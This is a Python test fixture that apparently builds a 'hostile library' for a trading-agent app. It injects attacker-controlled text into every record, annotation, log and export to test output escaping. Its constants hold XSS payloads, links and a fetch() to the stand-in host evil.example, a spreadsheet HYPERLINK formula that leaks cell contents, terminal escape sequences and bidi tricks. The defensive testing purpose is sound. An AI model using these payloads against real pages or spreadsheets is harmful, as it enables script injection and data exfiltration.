"""A library in which every text that somebody else can write is an attack: runs in every state, notes, tags, logs, a dataset.

The engine, memory and store are the real ones, so that the ledger adds up and every page has something to show; the market, the model
and the words are the enemy's. What no engine would let through today (an order's reason, a warning, a 2 MB word in each place) is put
into the records before they are stored: an old store or an import may hold it.
"""

from __future__ import annotations

import os
import socket
from collections.abc import Iterator
from datetime import UTC, date, datetime
from functools import partial
from pathlib import Path
from typing import Any

from agent.engine import trade
from agent.llm.base import LessonFacts, Request, Situation, StudyFacts
from agent.market.sessions import Calendar
from agent.market.view import Market
from agent.memory.bank import MemoryBank
from agent.memory.embedders.hashing import HashingEmbedder
from agent.memory.layers import MemorySpec, preset
from agent.records import DayRecord, LeftOut, MemoryEvent, ModelCall
from agent.spec import RunSpec
from agent.strategies import STRATEGIES
from agent.strategies.base import Setup
from bench import large_run
from bench.large_run import CrowdedMarket, Size, Talker

HOST = "evil.example"
SHOWN = "<script>window.pwned=1</script>"  # must stand on a page as these very letters
ATTACK = (
    f"{SHOWN}</script><img src=http://{HOST}/x.png onerror=window.pwned=2><svg onload=window.pwned=3></svg>"
    f"<a href='http://{HOST}/a'>a</a> ![p](http://{HOST}/p.png) [click](javascript:window.pwned=4) http://{HOST}/bare www.{HOST} "
    f"a@{HOST} :red[red] :material/home: :smile: $\\frac{{1}}{{0}}$ %{{customdata}} {{{{x}}}} `code` **bold** # head | cell\n"
    f"> quote\n- list\n```\nfence\n<iframe src=http://{HOST}/i></iframe> \x1b[31mred\x1b[0m \x1b]8;;http://{HOST}\x07link\x1b]8;;\x07 "
    "\u202egnp.exe\u202c \u2066\u2069 \u2028\u2029 \x00 \x9b31m \ufeff &lt;b&gt; <style>@import 'http://evil.example/c.css';</style>"
)
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"x")'
SHORT = f"{SHOWN}[x](javascript:alert(1)) ![](http://{HOST}/n.png) :red[r] $x$"  # where few characters fit
HUGE = "W" * 2_000_000
MARKS = "Z" + "\u0301\u0327" * 5_000
TICKERS = (f"[A](HTTP://{HOST.upper()})", "<IMG SRC=X>$X$ *B*")
DAYS = 18
LAYER = "<b>mid</b>![](http://evil.example/l)"
BROKEN_DAY = "2018-01-16"  # its answer holds half a surrogate pair, so there is no decision
RUN = "hostile"
COPIED_DAY, BIG_DAY, MARKED_DAY = 10, 12, 14  # sessions: copied as Markdown, all 2 MB words, all combining marks


class HostileMarket(CrowdedMarket):
    """Real prices, an enemy's words in every text column, two filings."""

    note = ATTACK[:300]

    def _news(self, symbol: str) -> list[dict[str, Any]]:
        words = {"title": ATTACK, "summary": ATTACK, "publisher": ATTACK, "url": f"javascript:fetch('http://{HOST}')"}
        rows = [row | words for row in super()._news(symbol)]
        return [
            row
            | {
                "id": f"{row['id']} <b>[i](http://{HOST}) {SHOWN}",
                "title": f"{number} {row['title']}",
                "summary": f"{row['summary']} {number}",
            }
            for number, row in enumerate(rows)
        ]

    def _filings(self, symbol: str) -> list[dict[str, Any]]:
        return [
            {
                "symbol": symbol,
                "accession": f"<b>{number}",
                "form": "10-Q",
                "section": section,
                "period_end": "2017-12-31",
                "accepted_at": session.close_at.replace(hour=12),
                "available_at": session.close_at.replace(hour=12),
                "text": f"{ATTACK} {number} " * 20,
                "url": f"http://{HOST}",
            }
            for number, session in enumerate(self.sessions[6::6])
            for section in ("risk_factors", f"<img src=x> [s](http://{HOST})")
        ]


class HostileTalker(Talker):
    """Decides like any other, and says what an enemy would."""

    label, model = ATTACK[:200], f"<b>m</b>[m](http://{HOST})"


def answer(request: Request, chance: Any) -> dict[str, Any]:
    """A valid answer full of attacks within the lengths that the schema allows."""
    said, facts = _plain_answer(request, chance), request.facts
    if isinstance(facts, StudyFacts):
        return said | {"summary": ATTACK[:900]}
    if isinstance(facts, LessonFacts):
        return {"lessons": [{name: ATTACK[:300] for name in ("condition", "action", "evidence")}], "calibration": ATTACK[:300]}
    assert isinstance(facts, Situation)
    sides = {side: [reason | {"claim": ATTACK[:300]} for reason in said[side]] for side in ("reasons_for", "reasons_against")}
    sides["reasons_for"][0]["basis"] = [*sides["reasons_for"][0]["basis"], *(fact.label for fact in (*facts.news, *facts.filings)[:2])]
    if BROKEN_DAY in str(facts.as_of):
        sides["reasons_against"].append({"claim": "half a pair: \ud800", "weight": 1, "basis": ["P"]})
    return said | sides | {"summary": ATTACK[:900], "invalidation": ATTACK[:900]}


_plain_answer = large_run._answer


def memory_spec() -> MemorySpec:
    """The default memory with one layer that somebody named badly."""
    found = preset("default").model_copy(update={"embedder": "hashing"}).model_dump()
    for layer in found["layers"]:
        layer["name"] = LAYER if layer["name"] == "mid" else layer["name"]
    found["ladder"] = [LAYER if name == "mid" else name for name in found["ladder"]]
    return MemorySpec.model_validate(found)


def spec_of(market: CrowdedMarket, name: str, tickers: tuple[str, ...] = TICKERS) -> RunSpec:
    days = [session.day for session in market.sessions]
    return RunSpec.read(
        {
            "name": name[:120],
            "tickers": list(tickers),
            "train": {"start": days[0], "end": days[2]},
            "test": {"start": days[3], "end": days[-1]},
            "backend": "ollama",
            "backend_options": {"model": HostileTalker.model},
            "memory": memory_spec().model_dump(),
        }
    )


def days(market: CrowdedMarket, spec: RunSpec) -> Iterator[tuple[DayRecord, dict[int, Any]]]:
    """The run as the engine makes it, every record with its vectors, and the enemy's words put into what is left."""
    from services import prompts

    calendar, backend, embedder = Calendar(), HostileTalker(2_000), HashingEmbedder()
    view = Market.load(market, spec.tickers, start=market.sessions[0].day, end=market.sessions[-1].day, calendar=calendar)
    common = partial(Setup, spec=spec, backend=backend, prompts=prompts.get(spec.prompts))
    strategies = {
        ticker: STRATEGIES.load(spec.strategy)(
            common(
                ticker=ticker,
                company=ATTACK[:100],
                bank=MemoryBank(ticker, spec.memory, embedder, seed=spec.seed),
                session_of=calendar.session_of,
                sessions_between=calendar.count,
            )
        )
        for ticker in spec.tickers
    }
    for record in trade(view, spec, strategies=strategies, calendar=calendar, run=RUN):
        born = [event.memory_id for event in record.thought.memory_events if event.kind == "remembered"]
        yield hurt(record), dict(strategies[record.ticker].vectors(born))


def hurt(record: DayRecord) -> DayRecord:
    """The record with attacks where engine and model put plain words; 2 MB or 10,000 marks of them on two of the days."""
    word = HUGE if (record.index, record.ticker) == (BIG_DAY, TICKERS[0]) else MARKS if record.index == MARKED_DAY else ATTACK
    thought, seen = record.thought, record.observation
    news = tuple(item.model_copy(update={"title": word, "summary": word, "publisher": word}) for item in seen.news)
    filings = tuple(item.model_copy(update={"text": word}) for item in seen.filings)
    decision = thought.decision
    if decision is not None:
        reasons = {
            side: tuple(
                one.model_copy(update={"claim": word if at == 0 else one.claim, "facts": (*one.facts, word[:5000])})
                for at, one in enumerate(getattr(decision, side))
            )
            for side in ("reasons_for", "reasons_against")
        }
        decision = decision.model_copy(
            update={**reasons, "summary": word, "invalidation": word, "flags": (word, FORMULA), "clipped_by": (SHORT,), "character": SHORT}
        )
    changed = thought.model_copy(
        update={
            "decision": decision,
            "study": thought.study.model_copy(update={"summary": word}) if thought.study else None,
            "query": word,
            "calls": tuple(_call(call, word, at) for at, call in enumerate(thought.calls)),
            "segments": tuple(one.model_copy(update={"name": f"{at} {SHORT}", "text": word}) for at, one in enumerate(thought.segments)),
            "memory_events": tuple(_event(event, word) for event in thought.memory_events),
            "left_out": (LeftOut(segment=word[:5000], tokens=3, reason=word[:5000]),),
            "warnings": (word, FORMULA),
            "lessons": (word,) if thought.lessons else (),
        }
    )
    return record.model_copy(
        update={
            "observation": seen.model_copy(update={"news": news, "filings": filings, "company": word[:5000]}),
            "thought": changed,
            "order": record.order.model_copy(update={"reason": FORMULA + word}) if record.order else None,
            "settled": record.settled.model_copy(update={"reason": "-2+3" + word}) if record.settled else None,
            "fills": tuple(fill.model_copy(update={"note": FORMULA + word}) for fill in record.fills),
            "warnings": (word,),
        }
    )


def _call(call: ModelCall, word: str, at: int) -> ModelCall:
    said = call.completion
    if said is not None:
        thinking = {"thinking": word, "server_version": SHORT, "done_reason": SHORT, "digest": SHORT, "way": SHORT}
        said = said.model_copy(update=thinking | ({"text": word} if at else {}))
    return call.model_copy(update={"system": word, "user": word, "error": word if at == 1 else "", "completion": said})


def _event(event: MemoryEvent, word: str) -> MemoryEvent:
    kept = event.memory and event.memory.model_copy(update={"text": word, "title": word, "publisher": word, "digested": SHORT})
    reason = event.reason if event.kind == "credited" else f"{event.reason} {word[:5000]}"
    return event.model_copy(update={"memory": kept, "reason": reason})


def provenance() -> dict[str, Any]:
    """What a run says of itself, said by an enemy; half a surrogate pair among it, which no column of text takes."""
    model = {
        name: ATTACK for name in ("name", "label", "model", "digest", "family", "parameter_size", "quantisation", "server_version", "way")
    }
    return {
        "recollect": ATTACK,
        "python": ATTACK,
        "packages": {SHORT: ATTACK},
        "prompts": ATTACK,
        "data": ATTACK,
        "note": ATTACK,
        "issues": [ATTACK, MARKS, FORMULA, "half a pair: \ud800"],
        "model": model | {"notes": [ATTACK]},
        "backend": {"label": ATTACK[:200], "model": ATTACK[:200], "llm": True, "notes": [ATTACK]},
        "imported": {"from": ATTACK, "at": ATTACK, "notes": [ATTACK]},
    }


def annotate(ticker: str, day: date, memory: int) -> None:
    """Notes, tags and bookmarks beside the run, a day and a memory."""
    from services import annotations

    places = (annotations.place(RUN), annotations.place(RUN, ticker, day=day), annotations.place(RUN, ticker, memory=memory))
    for where in places:
        for words in (ATTACK, "N" * 20_000, MARKS, FORMULA):
            annotations.note(where, words)
        annotations.tag(where, "<img src=http://evil.example>")
        annotations.tag(where, "[t](javascript:alert(1)) :red[t] $x$")
        annotations.bookmark(where)


def others(spec: RunSpec) -> None:
    """Runs in every other state, each with an enemy's error, log and half-written answer."""
    from services import runs
    from services.settings import settings

    store = runs.store()
    for status in ("queued", "running", "paused", "failed", "cancelled", "interrupted"):
        row = store.create(spec.model_copy(update={"name": f"{status} {SHORT}"[:120]}), run_id=f"one-{status}", provenance=provenance())
        store.beat(row.id, sessions_total=9)
        if status == "queued":
            continue
        store.set_status(row.id, "running")
        if status == "running":
            store.beat(row.id, pid=os.getpid(), host=socket.gethostname())
            live = {"ticker": SHORT, "day": SHORT, "purpose": SHORT, "text": f"{HUGE}{ATTACK}", "thinking": f"{MARKS}{ATTACK}"}
            store.set_live(row.id, live)
        elif status == "interrupted":
            store.beat(row.id, pid=2**22 - 1, host=socket.gethostname())
        else:
            store.set_status(row.id, status, error=f"{ATTACK}{HUGE}" if status == "failed" else "")
        settings().logs.mkdir(parents=True, exist_ok=True)
        (settings().logs / f"one-{status}.log").write_text(f"{ATTACK}\n{HUGE}\n{ATTACK}", encoding="utf-8")


def take_away(home: Path, day: date) -> None:
    """Everything of the run that leaves the machine as a file: the report, the export, the copies of a day."""
    from report import build
    from services import day_reads, exports, queries
    from ui import day_markdown

    with (home / "report.html").open("w", encoding="utf-8", newline="\n") as out:
        build.write(build.plan(RUN), out, now=datetime(2026, 1, 2, tzinfo=UTC))
    exports.export(RUN, home / "export")
    record = queries.record(RUN, TICKERS[0], day)
    known = day_reads.memories(RUN, TICKERS[0], {recall.memory_id for recall in record.thought.recalls})
    words = day_markdown.day_markdown(record, known, queries.fate(RUN, TICKERS[0], day))
    (home / "day.md").write_text(words, encoding="utf-8", newline="\n")
    (home / "day.json").write_text(day_markdown.day_json(record), encoding="utf-8", newline="\n")


def write(home: Path) -> None:
    """The whole library in ``home``, which RECOLLECT_HOME has to name, and in it the files that are taken away."""
    from services import runs
    from services.worker import Known, _sum_up

    market = HostileMarket(Size(DAYS, 2, 150, 2_000), Calendar())
    large_run._answer, keep = answer, large_run._answer
    large_run.TICKERS, names = TICKERS, large_run.TICKERS
    try:
        spec, store, known = (
            spec_of(market, f"{SHOWN} ![n](http://{HOST}/n.png) [l](javascript:alert(1)) :red[n] $x$"),
            runs.store(),
            Known(),
        )
        store.create(spec, run_id=RUN, provenance=provenance())
        store.set_status(RUN, "running")
        records = []
        for record, vectors in days(market, spec):
            store.append(record, vectors=vectors)
            known.add(record)
            records.append((record.ticker, record.day, record.index))
        store.beat(RUN, sessions_total=len(records))
        _sum_up(store, RUN, known)
        store.clear_outbox(RUN, up_to=store.outbox_end(RUN))
        store.set_status(RUN, "done")
    finally:
        large_run._answer, large_run.TICKERS = keep, names
    mine = {index: day for ticker, day, index in records if ticker == TICKERS[0]}
    annotate(TICKERS[0], mine[BIG_DAY], 1)
    others(spec)
    take_away(home, mine[COPIED_DAY])
